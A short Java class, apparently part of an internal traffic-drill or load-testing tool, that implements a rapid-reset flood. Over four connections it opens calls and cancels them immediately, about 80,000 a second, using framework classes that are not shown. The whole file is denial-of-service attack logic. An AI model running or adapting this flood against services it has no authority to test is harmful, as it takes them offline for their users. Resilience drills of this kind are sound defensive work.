package dev.dolmen.traffic.drill.attack;

import java.io.IOException;

/** Calls that are cancelled as soon as they are opened, 80,000 a second. */
public final class RapidResets implements Attack {
  private static final int CONNECTIONS = 4;
  private static final int CALLS_A_FLUSH = 100;
  private static final int PAUSE_MS = 5;

  @Override
  public void start(AttackRun run) {
    run.repeat(CONNECTIONS, () -> open(run));
  }

  private static void open(AttackRun run) throws IOException, InterruptedException {
    try (FrameConnection connection = run.frames()) {
      while (run.goesOn()) {
        for (int i = 0; i < CALLS_A_FLUSH; i++) {
          connection.reset(connection.call(Methods.RECOMMEND));
        }
        connection.flush();
        Thread.sleep(PAUSE_MS);
      }
    }
  }
}
